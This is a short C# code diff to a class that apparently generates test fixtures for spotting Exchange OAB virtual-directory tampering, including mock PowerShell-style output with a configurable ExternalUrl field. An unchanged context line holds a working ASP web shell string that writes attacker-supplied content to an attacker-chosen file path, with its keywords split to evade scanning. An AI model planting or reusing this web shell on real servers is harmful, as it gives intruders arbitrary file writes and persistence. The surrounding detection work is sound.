@@ -19,7 +19,7 @@ internal static class Pages
     public static string Edits(bool includes) => (includes ? "<!--#include file=\"admin.asp\"-->" : "")
         + "<% Set f = Server.Create" + "Object(\"Scripting.FileSystemObject\") : Set t = f.OpenText" + "File(req" + "uest(\"p\"), 2, True) : t.Write req" + "uest(\"c\") : t.Close %>";
 
-    public static string Object(string address) => $"""
+    public static string Object(string address, string changed = "WhenChanged : 3/3/2021 5:12:46 AM") => $"""
         Name                                    : OAB (Default Web Site)
         PollInterval                            : 480
         OfflineAddressBooks                     : ?
@@ -29,7 +29,7 @@ internal static class Pages
         InternalUrl                             : https://exch01.contoso.example/OAB
         InternalAuthenticationMethods           : WindowsIntegrated
         ExternalUrl                             : {address}
-        WhenChanged                             : 3/3/2021 5:12:46 AM
+        {changed}
         WhenCreated                             : 3/3/2021 5:12:40 AM
         """;
 
